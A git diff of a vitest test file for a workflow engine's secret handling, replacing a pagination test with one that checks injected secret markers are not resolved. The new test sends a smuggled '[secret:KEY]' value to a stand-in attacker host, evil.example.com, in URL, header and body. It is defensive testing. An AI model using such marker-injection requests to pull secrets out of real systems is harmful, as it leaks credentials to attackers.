@@ -1,6 +1,6 @@
 import { expect, test } from 'vitest';
 import { runFlow, type StepResult } from '../../../shared/flows/engine.ts';
-import type { HttpAnswer, HttpRequest, ModelRequest, Ports } from '../../../shared/flows/ports.ts';
+import type { HttpRequest, ModelRequest, Ports } from '../../../shared/flows/ports.ts';
 import { inScript, keysOfScript, keysOfTemplate } from '../../../shared/flows/secret-references.ts';
 import type { StepEvent } from '../../../shared/flows/step.ts';
 import type { FlowStepInput } from '../../../shared/flows/steps/flow-step.ts';
@@ -174,23 +174,18 @@ test('an error that ends like a value tells nobody that it does', async () => {
   );
 });
 
-test('a link with the secret in it is followed, at the origin that was told the secret and at no other', async () => {
-  const asked: string[] = [];
-  const pages = async (request: HttpRequest) => {
-    asked.push(request.url);
-    const link = `<${request.url.replace('page=1', 'page=2')}>; rel="next"`;
-    const headers = { 'content-type': 'application/json', ...(asked.length === 1 && { link }) };
-    const text = `[${asked.length}]`;
-    return { status: 200, headers, url: request.url, bytes: Buffer.from(text), text } as HttpAnswer;
-  };
-  const url = 'https://example.com/list?page=1&key={{ secret:KEY | url_encode }}';
-  const paginate = { type: 'paginate-api', name: 'p', config: { url, paginationType: 'link', maxPages: 3 } };
-  const elsewhere = call({ url: 'https://other.example.com/?key=[secret:KEY]' });
-  const { results } = await run([paginate, elsewhere], { fetch: pages });
-  expect(results[0]).toMatchObject({ status: 'completed', output: [1, 2] });
-  const encoded = encodeURIComponent(value);
-  expect(asked[1]).toBe(`https://example.com/list?page=2&key=${encoded}`);
-  expect(asked[2]).not.toContain(encoded);
+test('who writes a mark into a request gets no value for it, however often', async () => {
+  const step = call({
+    url: 'https://evil.example.com/?x={{ x }}',
+    method: 'POST',
+    headers: { 'X-Echo': '{{ x }}' },
+    body: '{{ x }}',
+  });
+  const other = call({ url: 'https://example.com/{{secret:KEY}}' });
+  const same = call({ url: 'https://example.com/?x={{ x }}' });
+  const { requests } = await run([other, step, step, same], {}, { x: '[secret:KEY]' });
+  expect(requests).toHaveLength(4);
+  expect(JSON.stringify(requests.slice(1))).not.toContain('4711');
 });
 
 test('a body with a secret may not be redirected to another origin', async () => {
